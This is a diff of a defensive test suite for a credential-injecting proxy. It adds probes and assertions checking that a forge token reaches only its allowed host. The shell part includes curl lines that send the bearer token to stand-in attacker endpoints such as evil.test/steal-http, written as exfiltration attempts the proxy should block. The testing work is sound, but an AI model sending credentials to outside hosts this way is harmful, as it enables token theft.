@@ -86,6 +86,10 @@ print(got[0])
 " | grep -q "$T" && found "a listener of its own"
 curl -sS $RESOLVE -D - -H "Authorization: Bearer $FORGE_TOKEN" https://allowed.test/api 2>&1 | grep -q "$T" && found "the API's reflection"
 curl -sS $RESOLVE --compressed -H "Authorization: Bearer $FORGE_TOKEN" https://allowed.test/api/gzip 2>&1 | grep -q "$T" && found "a compressed reflection"
+curl -sS $RESOLVE -H "Authorization: Bearer $FORGE_TOKEN" https://allowed.test/api/chunk 2>&1 | grep -q "$T" && found "a chunked reflection"
+# A Basic blob of the bare value beside the Bearer header: reflected, then decoded here.
+curl -sS $RESOLVE -H "Authorization: Bearer $FORGE_TOKEN" -H "Authorization: Basic $(printf %s "$FORGE_TOKEN" | base64 -w0)" https://allowed.test/api 2>&1 | tr ' ' '\n' | while read -r w; do printf %s "$w" | base64 -d 2>/dev/null; echo; done | grep -q "$T" && found "a Basic blob"
+curl -sS $RESOLVE -H "Authorization: Bearer $FORGE_TOKEN" http://allowed.test/api/plain -o /dev/null 2>&1
 curl -sS $RESOLVE -H "Authorization: Bearer $FORGE_TOKEN" http://evil.test/steal-http 2>&1
 curl -sS $RESOLVE -H "Authorization: Bearer $FORGE_TOKEN" https://evil.test/steal-tls -o /dev/null 2>&1
 curl -sS $RESOLVE --noproxy '*' -H "Authorization: Bearer $FORGE_TOKEN" https://evil.test/steal-direct -o /dev/null 2>&1
@@ -166,6 +170,8 @@ class CredentialsTest(unittest.TestCase):
         self.assertIn("FOUND via env\n", outputs[0])
         self.assertIn("FOUND via the API's reflection\n", outputs[0])
         self.assertIn("FOUND via a compressed reflection\n", outputs[0])
+        self.assertIn("FOUND via a chunked reflection\n", outputs[0])
+        self.assertIn("FOUND via a Basic blob\n", outputs[0])
         with open(self.log) as f:
             log = f.read()
         for path in ("/steal-http", "/steal-tls", "/steal-direct"):
@@ -209,6 +215,8 @@ class CredentialsTest(unittest.TestCase):
             log = f.read()
         # The real value reached allowed.test (the API, the push) and nothing reached evil.test.
         self.assertIn(f"{ALLOWED} GET /api real\n", log)
+        # Plain HTTP to the credential's own host: no credential goes into it.
+        self.assertNotIn(f"{ALLOWED} GET /api/plain real", log)
         self.assertIn(f"{ALLOWED} POST /repo.git/git-receive-pack real\n", log)
         # evil.test: the dummy in the clear refused before it left; inside an opaque tunnel (to an
         # allowed host that holds no credential) the proxy cannot see it, and it is worth nothing
